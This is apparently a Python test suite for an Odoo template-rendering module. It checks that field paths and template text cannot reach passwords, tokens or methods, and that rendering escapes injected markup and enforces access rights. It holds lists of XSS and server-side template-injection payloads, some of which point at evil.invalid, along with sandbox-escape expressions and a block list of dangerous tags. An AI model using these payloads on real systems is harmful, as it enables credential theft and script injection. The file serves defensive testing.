from unittest.mock import patch

from markupsafe import Markup

from odoo import Command
from odoo.exceptions import AccessError, ValidationError
from odoo.tests import new_test_user, tagged

from .texts_common import TestTextsCommon

REFUSED_PATHS = (
    "__class__",
    "__class__.__mro__",
    "_fields",
    "_cr",
    "env",
    "env.user.password",
    "ids",
    "name.upper",
    "name()",
    "unlink()",
    "sudo().name",
    "write",
    "search",
    "partner_id.user_ids.password",
    "partner_id.user_ids.login",
    "user_id.password",
    "user_id.login",
    "user_id.group_ids.name",
    "user_id.api_key_ids.key",
    "user_id.totp_secret",
    "user_id.totp_enabled",
    "user_id.company_id.partner_id.user_ids.password",
    "access_token",
    "partner_id.signup_type",
    "partner_id.image_1920",
    "partner_id.message_ids.body",
    "company_id.company_details.x",
    "gestor_flag_id.model_ids.model",
    "gestor_flag_id.group_ids.name",
    "create_uid.login",
    "create_uid.password",
    "partner_id.child_ids.child_ids.name",
    "partner_id.parent_id.parent_id.parent_id.name",
    "partner_id.contact_address",
    "gestor_link_count",
    "Name",
    "name ",
    " name",
    "name.",
    ".name",
    "partner_id..name",
    "name\n",
    "['name']",
    "name or user_id.password",
    "line_ids[0].name",
    "",
)
# what people try in fields that some program may evaluate
INJECTIONS = (
    '<t t-out="object.env.user.password"/>',
    '<p t-esc="1 + 1">x</p>',
    '<p t-out="object.sudo().unlink()">x</p>',
    "<p t-if=\"object.write({'name': 'Hacked'})\">x</p>",
    '<t t-foreach="object.env[\'res.users\'].search([])" t-as="u" t-out="u.login"/>',
    '<t t-call="web.login"/>',
    "<p t-att-title=\"object.env.cr.execute('select 1')\">x</p>",
    "<p>${object.env.user.password}</p>",
    "<p>{% for x in object %}{% endfor %}</p>",
    "<p>#{object.name}</p>",
    "<p>%(name)s %s {name} {0.__class__}</p>",
    '<script>fetch("/web/session/get_session_info")</script>',
    '<img src="x" onerror="alert(1)"/>',
    '<iframe src="/web/login"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<svg onload="alert(1)"></svg>',
    '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
    '<form action="https://evil.invalid"><input name="password"/></form>',
    '<style>@import "https://evil.invalid"</style>',
    '<base href="https://evil.invalid"/>',
    '<meta http-equiv="refresh" content="0"/>',
)
INJECTED_NAMES = (
    "object.env.user.password",
    "object.unlink()",
    "user.password",
    "().__class__.__bases__[0]",
    "env['ir.config_parameter'].sudo().get_param('database.secret')",
    "7*7",
    "name|safe",
    "client_name.__class__",
)
DANGER = (
    "<script",
    "onerror",
    "onload",
    "<iframe",
    "javascript:",
    "<object",
    "<form",
    "<style",
    "<base",
    "<meta",
    "t-out",
    "t-esc",
    "t-if",
    "t-foreach",
    "t-call",
    "t-att",
)


@tagged("post_install", "-at_install")
class TestTextsAttacks(TestTextsCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.builder = cls._create_user(
            "builder", "gestor_base.gestor_base_group_manager"
        )

    def test_no_path_leads_to_a_secret_a_method_or_out_of_the_list(self):
        for path in REFUSED_PATHS:
            with self.subTest(path=path), self.assertRaises(ValidationError):
                self._create_autotext("Attack", path)
        # the same maker takes a good one
        self.assertTrue(self._create_autotext("Good", "partner_id.parent_id.name"))

    def test_machinery_of_the_program_is_out_of_reach_from_any_model(self):
        for subject, path in (
            ("user", "password"),
            ("user", "login"),
            ("user", "group_ids.name"),
            ("user", "partner_id.user_ids.password"),
            ("company", "user_ids.login"),
            ("company", "parent_id.user_ids.password"),
            ("company", "alias_domain_id.bounce_alias_id.id"),
            ("client", "user_ids.password"),
            ("client", "signup_type"),
            ("client", "activity_ids.note"),
        ):
            with self.subTest(path=path), self.assertRaises(ValidationError):
                self._create_autotext("Attack", path, subject=subject)

    def test_nothing_in_a_text_is_evaluated(self):
        names = self.papers.mapped("name")
        for injection in INJECTIONS:
            with self.subTest(injection=injection):
                text = self._render(f"<div>{injection}</div>", self.first)[0]
                for danger in DANGER:
                    self.assertNotIn(danger, text)
                self.assertNotIn("Hacked", text)
        self.assertEqual(self.papers.exists().mapped("name"), names)

    def test_expression_as_a_placeholder_is_an_unknown_name(self):
        for name in INJECTED_NAMES:
            with self.subTest(name=name), self.assertRaises(ValidationError):
                self._create_template(f"<p>{{{{ {name} }}}}</p>")
            with self.subTest(chip=name), self.assertRaises(ValidationError):
                self._create_template(self._chip(name))

    def test_value_is_never_read_as_a_placeholder_or_as_html(self):
        self._create_autotext("Paper number", "name")
        for value in (
            "{{Client name}}",
            "{{Today}} {{object.env}}",
            self._chip("client_name"),
            "\ue0000\ue001",
            '<img src="x" onerror="alert(1)">',
            '<t t-out="1+1"/>',
            "%s %(x)s {0}",
        ):
            with self.subTest(value=value):
                self.first.name = value
                self.assertEqual(
                    self._render("<p>{{Paper number}}</p>", self.first),
                    [Markup("<p>%s</p>") % str(value)],
                )

    def test_marks_written_into_a_text_are_no_placeholders(self):
        text = self._render("<p>\ue0000\ue001 {{Client name}}</p>", self.second)[0]
        self.assertEqual(text, "<p>0 Meadow &amp; Sons</p>")

    def test_html_cannot_grow_out_of_its_place(self):
        self._create_autotext("Paper number", "name")
        self.first.name = "</p></div><script>alert(1)</script>"
        self.assertNotIn("<script", self._render("<p>{{Paper number}}</p>")[0])

    def test_author_needs_the_groups_of_the_field(self):
        vals = {
            "name": "Margin",
            "group_id": self.group.id,
            "model_id": self._model_id("test.gestor.document").id,
        }
        autotexts = self.env["gestor.autotext"].with_user(self.builder)
        with self.assertRaisesRegex(ValidationError, "margin_note"):
            autotexts.create({**vals, "field_path": "margin_note"})
        harmless = autotexts.create({**vals, "name": "Harmless", "field_path": "name"})
        with self.assertRaisesRegex(ValidationError, "margin_note"):
            harmless.field_path = "margin_note"

    def test_reader_needs_the_groups_of_the_field(self):
        self._create_autotext("Margin", "margin_note")
        self.first.margin_note = "42 %"
        template = self._create_template("<p>{{Margin}}</p>")
        seen = template.with_user(self.anna)
        paper = self.first.with_user(self.anna)
        self.assertEqual(seen._gestor_render(paper), {paper.id: "<p></p>"})
        self.assertEqual(
            seen._gestor_missing(paper), {paper.id: [("Margin", "no_access")]}
        )
        # whoever may read it gets it
        self.assertEqual(
            template.with_user(self.env.ref("base.user_admin"))._gestor_render(
                self.first.with_user(self.env.ref("base.user_admin"))
            ),
            {paper.id: "<p>42 %</p>"},
        )

    def test_rights_to_each_hop_are_asked(self):
        """Anna's paper refers to a secret of hers and to one of Bolek."""
        self._create_autotext("Secrets", "line_ids.attached_id")
        self._create_autotext("Secret names", "line_ids.attached_id.name")
        self.foreign_secret.name = "Bolek's"
        template = self._create_template("<p>{{Secrets}}/{{Secret names}}</p>")
        paper = self.first.with_user(self.anna)
        for secret, shown in (
            (self.secret, "<p>Secret/Secret</p>"),
            (self.foreign_secret, "<p>/</p>"),
        ):
            self.first.line_ids = [
                Command.clear(),
                Command.create({"name": "Line", "attached_id": secret.id}),
            ]
            rendered = template.with_user(self.anna)._gestor_render(paper)
            self.assertEqual(rendered, {paper.id: shown})

    def test_document_itself_must_be_readable(self):
        template = self._create_template(
            "<p>{{Document name}}</p>", model_id=False
        ).with_user(self.anna)
        with self.assertRaises(AccessError):
            template._gestor_render(self.foreign_secret.with_user(self.anna))

    def test_client_that_the_user_may_not_read_is_not_told(self):
        self.env["ir.rule"].create(
            {
                "name": "Test: no foreign clients",
                "model_id": self._model_id("res.partner").id,
                "domain_force": f"[('id', '!=', {self.clients[0].id})]",
            }
        )
        self.env.invalidate_all()
        self.assertEqual(
            self._render("<p>{{Client name}}{{Client address}}</p>", self.first),
            ["<p></p>"],
        )

    def test_documents_of_another_company_stay_there(self):
        other = self.env["res.company"].create({"name": "Other"})
        self.first.company_id = other
        template = self._create_template("<p>{{Document name}}</p>")
        self.env.invalidate_all()
        with self.assertRaises(AccessError):
            template.with_user(self.anna)._gestor_render(
                self.first.with_user(self.anna)
            )

    def test_rendering_writes_nothing(self):
        self._create_autotext("Paper number", "name")
        template = self._create_template("<p>{{Paper number}} {{Client address}}</p>")
        self.env.flush_all()
        executed = []
        with patch.object(
            type(self.env.cr),
            "execute",
            autospec=True,
            side_effect=self._spy(type(self.env.cr).execute, executed),
        ):
            template._gestor_render(self.papers)
            self.env.flush_all()
        self.assertTrue(executed)
        for query in executed:
            self.assertNotRegex(query, r"(?i)^\s*(insert|update|delete|alter|drop)")

    @staticmethod
    def _spy(execute, executed):
        def spy(cursor, query, *args, **kwargs):
            executed.append(getattr(query, "code", None) or str(query))
            return execute(cursor, query, *args, **kwargs)

        return spy

    def test_portal_user_gets_no_text_at_all(self):
        portal = new_test_user(
            self.env, login="test_gestor_portal", groups="base.group_portal"
        )
        template = self._create_template("<p>Hi</p>")
        with self.assertRaises(AccessError):
            template.with_user(portal)._gestor_render(self.first)
        with self.assertRaises(AccessError):
            self.env["gestor.autotext"].with_user(portal).get_picker_items()

    def test_user_keeps_own_texts_and_leaves_those_of_others(self):
        templates = self.env["gestor.text.template"]
        hers = templates.with_user(self.anna).create({"name": "Hers"})
        shared = self._create_template("<p>Shared</p>")
        self.assertEqual(hers.user_id, self.anna)
        hers.body_html = "<p>Mine</p>"
        both = hers | shared
        self.assertEqual(
            templates.with_user(self.bolek).search([("id", "in", both.ids)]), shared
        )
        for attempt in (
            lambda: shared.with_user(self.anna).write({"name": "Taken"}),
            lambda: hers.with_user(self.anna).write({"user_id": False}),
            lambda: hers.with_user(self.bolek).read(["name"]),
            lambda: templates.with_user(self.anna).create(
                {"name": "For all", "user_id": False}
            ),
            lambda: (
                self.env["gestor.autotext"]
                .with_user(self.anna)
                .create(
                    {"name": "Own", "group_id": self.group.id, "field_path": "name"}
                )
            ),
        ):
            with self.assertRaises(AccessError):
                attempt()
                self.env.flush_all()
        self.assertFalse(
            templates.with_user(self.builder).create({"name": "Shared"}).user_id
        )
